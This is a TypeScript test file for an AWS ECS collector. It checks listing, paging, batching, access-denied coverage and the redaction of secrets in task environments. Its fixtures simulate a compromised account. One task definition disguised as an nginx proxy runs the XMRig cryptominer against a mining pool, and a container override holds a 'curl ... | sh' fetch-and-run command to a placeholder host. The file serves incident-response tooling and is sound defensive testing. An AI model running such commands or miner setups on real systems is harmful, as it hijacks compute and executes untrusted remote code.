import {
  DescribeClustersCommand,
  DescribeTaskDefinitionCommand,
  DescribeTasksCommand,
  ECSClient,
  ECSServiceException,
  ListClustersCommand,
  ListTasksCommand,
  type Task,
  type TaskDefinition,
} from "@aws-sdk/client-ecs";
import { mockClient } from "aws-sdk-client-mock";
import { beforeEach, describe, expect, it } from "vitest";
import { CoverageRecorder } from "../../lambda/collect/coverage.js";
import { collectEcsRegion, ECS_DESCRIBE_BATCH } from "../../lambda/collect/ecs.js";

const REGION = "us-west-2";
const ACCOUNT = "123456789012";
const CLUSTER = `arn:aws:ecs:${REGION}:${ACCOUNT}:cluster/prod-workers`;
const TASK_DEF = `arn:aws:ecs:${REGION}:${ACCOUNT}:task-definition/nginx-proxy:7`;
const LEAKED_USER = `arn:aws:iam::${ACCOUNT}:user/ci-deploy`;

function taskArn(n: number): string {
  return `arn:aws:ecs:${REGION}:${ACCOUNT}:task/prod-workers/${n.toString(16).padStart(32, "0")}`;
}

function task(n: number, overrides: Partial<Task> = {}): Task {
  return {
    taskArn: taskArn(n),
    clusterArn: CLUSTER,
    taskDefinitionArn: TASK_DEF,
    launchType: "FARGATE",
    cpu: "4096",
    memory: "8192",
    lastStatus: "RUNNING",
    desiredStatus: "RUNNING",
    createdAt: new Date("2026-03-09T22:01:10.000Z"),
    startedAt: new Date("2026-03-09T22:01:52.000Z"),
    group: "family:nginx-proxy",
    ...overrides,
  };
}

/** A task definition whose command runs XMRig next to a leaked credential in the environment. */
const MINER_DEFINITION: TaskDefinition = {
  taskDefinitionArn: TASK_DEF,
  family: "nginx-proxy",
  revision: 7,
  cpu: "4096",
  memory: "8192",
  requiresCompatibilities: ["FARGATE"],
  registeredAt: new Date("2026-03-09T21:58:03.000Z"),
  registeredBy: LEAKED_USER,
  containerDefinitions: [
    {
      name: "proxy",
      image: "metal3d/xmrig:latest",
      entryPoint: ["xmrig"],
      command: ["-o", "stratum+tcp://pool.supportxmr.com:3333", "-u", "4wallet", "--donate-level", "1"],
      environment: [
        { name: "AWS_SECRET_ACCESS_KEY", value: "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY" },
        { name: "THREADS", value: "4" },
      ],
    },
  ],
};

function denied(api: string): ECSServiceException {
  return new ECSServiceException({
    name: "AccessDeniedException",
    $fault: "client",
    $metadata: {},
    message: `User is not authorized to perform: ecs:${api}`,
  });
}

const client = new ECSClient({ region: REGION });
const ecs = mockClient(client);

beforeEach(() => {
  ecs.reset();
  ecs.on(ListClustersCommand).resolves({ clusterArns: [CLUSTER] });
  ecs.on(DescribeClustersCommand).resolves({
    clusters: [
      {
        clusterArn: CLUSTER,
        clusterName: "prod-workers",
        status: "ACTIVE",
        runningTasksCount: 2,
        tags: [{ key: "team", value: "platform" }],
      },
    ],
  });
  ecs.on(DescribeTaskDefinitionCommand).resolves({ taskDefinition: MINER_DEFINITION });
});

describe("ECS collector", () => {
  it("reads clusters, running tasks and their task definitions, redacting commands and environments", async () => {
    ecs.on(ListTasksCommand).resolves({ taskArns: [taskArn(1), taskArn(2)] });
    ecs.on(DescribeTasksCommand).resolves({ tasks: [task(1), task(2)] });
    const coverage = new CoverageRecorder();

    const result = await collectEcsRegion({ client, region: REGION, coverage });

    expect(result.read).toBe(true);
    expect(result.clusters).toEqual([
      {
        arn: CLUSTER,
        name: "prod-workers",
        region: REGION,
        status: "ACTIVE",
        runningTasksCount: 2,
        tags: { team: "platform" },
      },
    ]);
    expect(result.tasks[0]).toEqual({
      taskArn: taskArn(1),
      clusterArn: CLUSTER,
      region: REGION,
      taskDefinitionArn: TASK_DEF,
      launchType: "FARGATE",
      cpu: 4096,
      memory: 8192,
      lastStatus: "RUNNING",
      startedAt: "2026-03-09T22:01:52.000Z",
      createdAt: "2026-03-09T22:01:10.000Z",
      group: "family:nginx-proxy",
      containerOverrides: [],
    });
    const [definition] = result.taskDefinitions;
    expect(definition).toMatchObject({
      arn: TASK_DEF,
      family: "nginx-proxy",
      revision: 7,
      registeredBy: LEAKED_USER,
      registeredAt: "2026-03-09T21:58:03.000Z",
      cpu: 4096,
      requiresCompatibilities: ["FARGATE"],
    });
    const container = definition?.containers[0];
    expect(container?.image).toBe("metal3d/xmrig:latest");
    expect(container?.command).toBe("xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 4wallet --donate-level 1");
    expect(container?.environment).toBe("AWS_SECRET_ACCESS_KEY=[REDACTED]\nTHREADS=4");
    expect(JSON.stringify(result)).not.toContain("wJalrXUtnFEMI");
    expect(ecs).toHaveReceivedCommandWith(ListTasksCommand, { cluster: CLUSTER, desiredStatus: "RUNNING" });
    expect(ecs).toHaveReceivedCommandWith(DescribeClustersCommand, { clusters: [CLUSTER], include: ["TAGS"] });
    // Both tasks share one task definition: described once.
    expect(ecs).toHaveReceivedCommandTimes(DescribeTaskDefinitionCommand, 1);
    expect(coverage.entries.every((e) => e.status === "ok")).toBe(true);
  });

  it("keeps RunTask command overrides, redacted", async () => {
    ecs.on(ListTasksCommand).resolves({ taskArns: [taskArn(1)] });
    ecs.on(DescribeTasksCommand).resolves({
      tasks: [
        task(1, {
          overrides: {
            containerOverrides: [
              {
                name: "proxy",
                command: ["sh", "-c", "curl -s https://x.example/m | sh"],
                environment: [{ name: "API_TOKEN", value: "abc123456789" }],
              },
            ],
          },
        }),
      ],
    });

    const result = await collectEcsRegion({ client, region: REGION, coverage: new CoverageRecorder() });

    expect(result.tasks[0]?.containerOverrides).toEqual([
      { name: "proxy", command: "sh -c curl -s https://x.example/m | sh", environment: "API_TOKEN=[REDACTED]" },
    ]);
  });

  it("pages through ListTasks and describes tasks in batches of 100", async () => {
    const arns = Array.from({ length: 250 }, (_, k) => taskArn(k));
    ecs
      .on(ListTasksCommand)
      .resolvesOnce({ taskArns: arns.slice(0, 100), nextToken: "t2" })
      .resolvesOnce({ taskArns: arns.slice(100, 200), nextToken: "t3" })
      .resolvesOnce({ taskArns: arns.slice(200) });
    ecs.on(DescribeTasksCommand).callsFake((input: { tasks: string[] }) => ({
      tasks: input.tasks.map((arn) => ({ ...task(0), taskArn: arn })),
    }));

    const result = await collectEcsRegion({ client, region: REGION, coverage: new CoverageRecorder() });

    expect(result.tasks.map((t) => t.taskArn)).toEqual(arns);
    expect(ecs).toHaveReceivedCommandTimes(ListTasksCommand, 3);
    const batches = ecs.commandCalls(DescribeTasksCommand).map((c) => c.args[0].input.tasks?.length);
    expect(batches).toEqual([ECS_DESCRIBE_BATCH, ECS_DESCRIBE_BATCH, 50]);
  });

  it("describes clusters in batches of 100", async () => {
    const clusters = Array.from({ length: 130 }, (_, k) => `arn:aws:ecs:${REGION}:${ACCOUNT}:cluster/c${k}`);
    ecs
      .on(ListClustersCommand)
      .resolvesOnce({ clusterArns: clusters.slice(0, 100), nextToken: "c2" })
      .resolvesOnce({
        clusterArns: clusters.slice(100),
      });
    ecs.on(ListTasksCommand).resolves({ taskArns: [] });

    await collectEcsRegion({ client, region: REGION, coverage: new CoverageRecorder() });

    const batches = ecs.commandCalls(DescribeClustersCommand).map((c) => c.args[0].input.clusters?.length);
    expect(batches).toEqual([100, 30]);
    expect(ecs).toHaveReceivedCommandTimes(ListTasksCommand, 130);
  });

  it("caps the tasks and task definitions read, recording partial coverage", async () => {
    const arns = Array.from({ length: 8 }, (_, k) => taskArn(k));
    ecs.on(ListTasksCommand).resolves({ taskArns: arns, nextToken: "more" });
    ecs.on(DescribeTasksCommand).callsFake((input: { tasks: string[] }) => ({
      tasks: input.tasks.map((arn, k) => ({
        ...task(0),
        taskArn: arn,
        taskDefinitionArn: `${TASK_DEF.slice(0, -2)}:${k + 1}`,
      })),
    }));
    const coverage = new CoverageRecorder();

    const result = await collectEcsRegion({ client, region: REGION, coverage, taskCap: 5, taskDefinitionCap: 3 });

    expect(result.tasks).toHaveLength(5);
    expect(ecs).toHaveReceivedCommandTimes(DescribeTaskDefinitionCommand, 3);
    expect(coverage.entries).toContainEqual(
      expect.objectContaining({ api: "ListTasks", status: "partial", reason: "not-requested" }),
    );
    expect(coverage.entries).toContainEqual(
      expect.objectContaining({ api: "DescribeTaskDefinition", status: "partial", reason: "not-requested" }),
    );
  });

  it("turns AccessDenied on ListClusters into a coverage entry and an unread region", async () => {
    ecs.on(ListClustersCommand).rejects(denied("ListClusters"));
    const coverage = new CoverageRecorder();

    const result = await collectEcsRegion({ client, region: REGION, coverage });

    expect(result).toEqual({ read: false, clusters: [], tasks: [], taskDefinitions: [] });
    expect(coverage.entries).toEqual([
      expect.objectContaining({
        region: REGION,
        service: "ecs",
        api: "ListClusters",
        status: "failed",
        reason: "access-denied",
      }),
    ]);
  });

  it("keeps the tasks when DescribeTaskDefinition is denied, and says their definitions were not read", async () => {
    ecs.on(ListTasksCommand).resolves({ taskArns: [taskArn(1)] });
    ecs.on(DescribeTasksCommand).resolves({ tasks: [task(1)] });
    ecs.on(DescribeTaskDefinitionCommand).rejects(denied("DescribeTaskDefinition"));
    const coverage = new CoverageRecorder();

    const result = await collectEcsRegion({ client, region: REGION, coverage });

    expect(result.tasks).toHaveLength(1);
    expect(result.taskDefinitions).toEqual([]);
    expect(coverage.entries).toContainEqual(
      expect.objectContaining({ api: "DescribeTaskDefinition", status: "failed", reason: "access-denied" }),
    );
  });

  it("reads a region with no clusters without further calls", async () => {
    ecs.on(ListClustersCommand).resolves({ clusterArns: [] });

    const result = await collectEcsRegion({ client, region: REGION, coverage: new CoverageRecorder() });

    expect(result.read).toBe(true);
    expect(ecs).not.toHaveReceivedCommand(DescribeClustersCommand);
    expect(ecs).not.toHaveReceivedCommand(ListTasksCommand);
  });
});
